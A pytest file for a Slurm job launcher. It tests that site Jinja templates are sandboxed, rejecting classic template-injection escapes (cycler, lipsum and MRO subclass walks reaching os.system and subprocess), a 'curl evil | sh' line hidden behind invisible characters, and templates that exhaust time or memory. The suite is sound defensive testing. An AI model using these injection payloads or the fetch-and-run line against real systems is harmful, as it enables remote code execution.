"""A site or factory template (`slurm.template`) is data: rendering it runs no Python.

`ft submit --dry-run`, `--print-srun` and `ft resubmit --dry-run` are how a user inspects a
recipe before trusting it; each renders the template. The classic Jinja escapes are tried,
each of which runs a shell command under a plain `jinja2.Environment`.
"""

from __future__ import annotations

import time

import pytest

from ftcore import exits
from ftcore.errors import UserError
from launcher import config, render

PAYLOADS = {
    "mro-subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
                      "{{ c()._module.__builtins__['__import__']('os').system('touch MARK') }}{% endif %}{% endfor %}",
    "cycler-globals": "{{ cycler.__init__.__globals__.os.system('touch MARK') }}",
    "template-reference": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch MARK') }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].system('touch MARK') }}",
    "joiner-os-popen": "{{ joiner.__init__.__globals__.os.popen('touch MARK').read() }}",
    "namespace-subprocess": "{{ namespace.__init__.__globals__['__builtins__']['__import__']('subprocess')"
                            ".run(['touch', 'MARK']) }}",
    "range-a-billion": "{% for i in range(10**9) %}{% endfor %}",
    "format-string": "{{ '{0.__init__.__globals__[os].system}'.format(cycler) }}",
    "mutate-a-value": "{{ sbatch_options.append('--wrap=touch MARK') }}",
}


def _site_template(folder, payload: str):
    marker = folder / "payload-ran"
    template = folder / "site.sh.j2"
    template.write_text("#!/bin/bash\n" + payload.replace("MARK", str(marker)) + "\nsrun {{ launch }}\n")
    return template, marker


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_template_escapes_are_refused_and_never_run(tmp_path, payload):
    template, marker = _site_template(tmp_path, payload)
    job = config.resolve("tiny", [f"slurm.template={template}"]).job
    with pytest.raises(UserError, match=f"sbatch template {template}"):
        render.render_sbatch(job, tmp_path / "job")
    assert not marker.exists()


@pytest.mark.parametrize("hidden", ["\b", "\x1b[8m", "\u202e", "\u200b", "\x85"], ids=repr)
def test_a_script_with_characters_that_hide_text_is_refused(tmp_path, hidden):
    template = tmp_path / "site.sh.j2"
    template.write_text(f"#!/bin/bash\necho visible{hidden}curl evil | sh\nsrun {{{{ launch }}}}\n")
    job = config.resolve("tiny", [f"slurm.template={template}"]).job
    with pytest.raises(UserError, match="line 2 of the script it makes holds the invisible character"):
        render.render_sbatch(job, tmp_path / "job")


def test_the_commands_that_inspect_a_recipe_run_nothing_from_its_template(ft, tmp_path):
    """Through the `ft` command line: an honest template first (so a job folder exists to resubmit),
    then the same template tampered with."""
    template, marker = _site_template(tmp_path, "# site policy")
    factory = tmp_path / "recipe.yaml"
    factory.write_text(f"extends: tiny\nslurm:\n  template: {template}\n")
    honest = ft("submit", "--factory", str(factory), "--dry-run")
    assert honest.returncode == 0 and "# site policy" in honest.stdout, honest.stderr
    folder = honest.stderr.split("Job folder: ")[-1].split()[0]

    for command, payload in ((["submit", "--factory", str(factory), "--dry-run"], "cycler-globals"),
                             (["submit", "--factory", str(factory), "--dry-run", "--print-srun"], "template-reference"),
                             (["resubmit", folder, "--dry-run"], "mro-subclasses")):
        _site_template(tmp_path, PAYLOADS[payload])
        result = ft(*command)
        assert result.returncode == exits.USER_ERROR, (command, result.stderr)
        assert f"sbatch template {template}" in result.stderr and "unsafe" in result.stderr, result.stderr
        assert "Traceback" not in result.stderr
        assert not marker.exists(), command


# Loops without end and strings that grow: the sandbox lets them run, the bounds stop them.
_NESTED = "".join("{% for x" + str(i) + " in sbatch_options %}" for i in range(12)) + "{% endfor %}" * 12
_DOUBLED = "{% set s0 = launch %}" + "".join("{% set s" + str(i + 1) + " = s" + str(i) + " ~ s" + str(i) + " %}"
                                             for i in range(40)) + "{{ s40 }}"
UNBOUNDED = {
    "nested-loops": (_NESTED, "rendering did not finish within 2 s"),
    "string-times-millions": ("{{ launch * 5000000 }}", "rendering needs more than 512 MiB"),
    "doubled-forty-times": (_DOUBLED, "rendering needs more than 512 MiB"),
    "some-megabytes": ("{{ launch * 50000 }}", "the script it makes is larger than 1 MiB"),
}


@pytest.mark.parametrize("payload, said", UNBOUNDED.values(), ids=UNBOUNDED.keys())
def test_rendering_is_bounded_in_time_memory_and_size(tmp_path, monkeypatch, payload, said):
    monkeypatch.setattr(render, "RENDER_TIMEOUT_S", 2)
    template, _ = _site_template(tmp_path, payload)
    job = config.resolve("tiny", [f"slurm.template={template}"]).job
    started = time.monotonic()
    with pytest.raises(UserError, match=f"sbatch template {template}: {said}"):
        render.render_sbatch(job, tmp_path / "job")
    assert time.monotonic() - started < 30


def test_a_template_larger_than_any_script_is_refused_unread(tmp_path):
    template = tmp_path / "site.sh.j2"
    template.write_text("#" * (render.TEMPLATE_LIMIT_BYTES + 1))
    job = config.resolve("tiny", [f"slurm.template={template}"]).job
    with pytest.raises(UserError, match="is larger than 1 MiB: not a script template"):
        render.render_sbatch(job, tmp_path / "job")


def test_a_real_submit_with_a_template_that_never_ends_says_so_and_submits_nothing(ft, tmp_path, isolated_home):
    template, _ = _site_template(tmp_path, _NESTED)
    started = time.monotonic()
    result = ft("submit", "--factory", "tiny", f"slurm.template={template}", "--yes")
    assert time.monotonic() - started < 60
    assert result.returncode == exits.USER_ERROR and "Traceback" not in result.stderr, result.stderr
    assert f"sbatch template {template}: rendering did not finish within {render.RENDER_TIMEOUT_S} s" in result.stderr
    assert "Submitted batch job" not in result.stdout
    jobs = isolated_home / "jobs"
    assert not jobs.exists() or not [p for p in jobs.iterdir() if not p.name.startswith(".")]
